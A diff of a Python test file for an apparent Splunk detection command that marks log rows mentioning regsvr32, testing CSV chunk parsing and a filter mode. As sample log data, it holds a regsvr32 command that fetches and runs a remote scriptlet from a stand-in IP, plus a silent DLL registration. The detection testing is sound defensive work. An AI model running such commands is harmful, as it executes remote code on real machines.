@@ -87,6 +87,9 @@ def generated_bodies(seed):
         (cim_body(newline_rows), False),                                   # quoted CRLF
         (cim_body([dict(r, note="a\nb") for r in rows(rnd, 5)], lineterminator="\n"), False),  # LF
         (splunkd_body(newline_rows), False),
+        # a mark after a quoted line break: that line alone is not a row
+        (cim_body([{"a": "x", "note": "a\r\nregsvr32 /s C:\\Users\\Public\\x.dll,z"}] * 2
+                  + [{"a": "y", "note": "b"}] * 10), False),
         (cim_body([dict(r, note="a\0b") for r in rows(rnd, 5)]), False),   # NUL
         (cim_body(rows(rnd, 5, extra=["regsvr32_score"])), False),          # an output field
         (cim_body(rows(rnd, 5), quoting=csv.QUOTE_ALL), False),            # quotes not needed
@@ -216,3 +219,35 @@ def test_every_row_left_unmarked_cannot_concern_regsvr32():
                 if value in cells:
                     assert i in chunk.marked and fields.mentions_regsvr32(record), record
     assert checked > 500
+
+
+def test_filter_mode_takes_more_chunks_with_the_same_bytes(fast_variants):
+    # Filter mode copies nothing, so rows need only be lines: chunks the copy proof refuses
+    # (ragged, empty lines, text around quoted fields, mixed line ends, quotes not needed) are
+    # done by the byte-level path alone, and give splunklib's bytes; so are filled __mv_ cells.
+    marked = "regsvr32 /s /i:http://203.0.113.9/a.sct scrobj.dll"
+    bodies = [
+        b"a,b\r\n1,2\r\n\r\n3,4\r\n" + b'"%s",x\r\n' % marked.encode(),
+        b"a,b\r\n1,2\r\n3\r\n" + b"%s,x\r\n" % marked.encode(),
+        b'a,b\r\n"x"y,2\r\n' + b"%s,x\r\n" % marked.encode(),
+        b'a,b\r\nz"x,1",2\r\n' + b"%s,x\r\n" % marked.encode(),
+        b'a,b\r\n1,2\r\n3,4\n' + b"%s,x\n" % marked.encode(),
+        cim_body([{"process": v, "b": "1"} for v in PLAIN[:8] + [marked]], quoting=csv.QUOTE_ALL),
+        b"a,__mv_a,b,__mv_b\r\nx,,1,\r\ny,$z$;$w$,2,\r\n" + b"%s,,3,\r\n" % marked.encode(),
+    ]
+    for body in bodies[:-1]:
+        assert regsvr32_fastpath.plan(body, OUTPUT_FIELDS)[0] is None, body   # annotate: refused
+    for args in (["mode=filter"], ["mode=filter", "min_score=0"]):
+        want = run_raw(fast_variants["splunklib"], args, bodies)
+        for variant in ("fast", "fast_sliced"):
+            got = run_raw(fast_variants[variant], args, bodies)
+            assert got[1] == 0, (variant, got[2])
+            assert got[0] == want[0], variant
+    # a quoted line break or a bare CR is not a chunk of lines: the lean path does those
+    plain = b"x,1\r\n" * 20
+    for body, why in ((b"a,b\r\n" + plain + b'"%s","a\r\nb"\r\n' % marked.encode(), "quoted line break"),
+                      (b"a,b\r\n" + plain + b'"%s","a\nb"\r\n' % marked.encode(), "quoted line break"),
+                      (b"a,b\r\n" + plain + b"1,2\r3\r\n", "bare CR")):
+        chunk, _ = regsvr32_fastpath._chunk(body, OUTPUT_FIELDS)
+        with pytest.raises(regsvr32_fastpath.NotProven, match=why):
+            list(regsvr32_fastpath._rows(chunk))
